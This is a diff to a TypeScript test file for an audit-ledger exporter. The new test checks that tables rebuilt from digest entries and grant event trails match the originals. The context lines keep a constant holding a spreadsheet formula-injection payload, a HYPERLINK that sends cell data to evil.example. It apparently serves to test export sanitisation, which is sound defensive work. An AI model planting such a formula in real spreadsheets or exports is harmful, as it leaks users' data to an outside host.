@@ -32,6 +32,7 @@ import {
   ledgerBroker,
   NOT_FOUND,
 } from '../audit/ledger-broker.ts';
+import type { FakeAnswer } from '../fake-server.ts';
 
 const signer = newSigner();
 const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Roll back")';
@@ -119,6 +120,31 @@ test('an event that is too long for an entry is read from the trail, and is the 
   expect(await run()).toMatchObject({ code: 0, err: '' });
   const row = table('population').find(({ id }) => id === long);
   expect(row?.['justification']).toBe(`long ${'x'.repeat(20_000)}`);
+});
+
+test('a ledger with digests is explained by the trails, and gives the same tables', async () => {
+  await run();
+  const before = ['population', 'orders', 'bundles'].map((name) => read(`${name}.csv`));
+  await broker.close();
+  broker = await ledgerBroker(signer.vkey);
+  out = join(broker.home.folder, 'evidence');
+  const trails = new Map<string, object[]>();
+  const single: Record<string, FakeAnswer> = {};
+  for (const event of EVENTS.map(eventJson)) {
+    if (typeof event['grantId'] === 'string') {
+      trails.set(event['grantId'], [...(trails.get(event['grantId']) ?? []), event]);
+    } else {
+      single[`GET /v1/audit/events/${event['id']}`] = { body: event };
+    }
+  }
+  const grantTrails = [...trails].map(
+    ([id, events]) =>
+      [`GET /v1/grants/${id}/events`, { body: { events, nextCursor: null } }] as const,
+  );
+  const digests = EVENTS.map((event) => entryOf(event, 'digests').bytes);
+  serve(ledgerOf(digests, signer), { ...Object.fromEntries(grantTrails), ...single });
+  expect(await run()).toMatchObject({ code: 0, err: '' });
+  expect(['population', 'orders', 'bundles'].map((name) => read(`${name}.csv`))).toEqual(before);
 });
 
 describe('an export', () => {
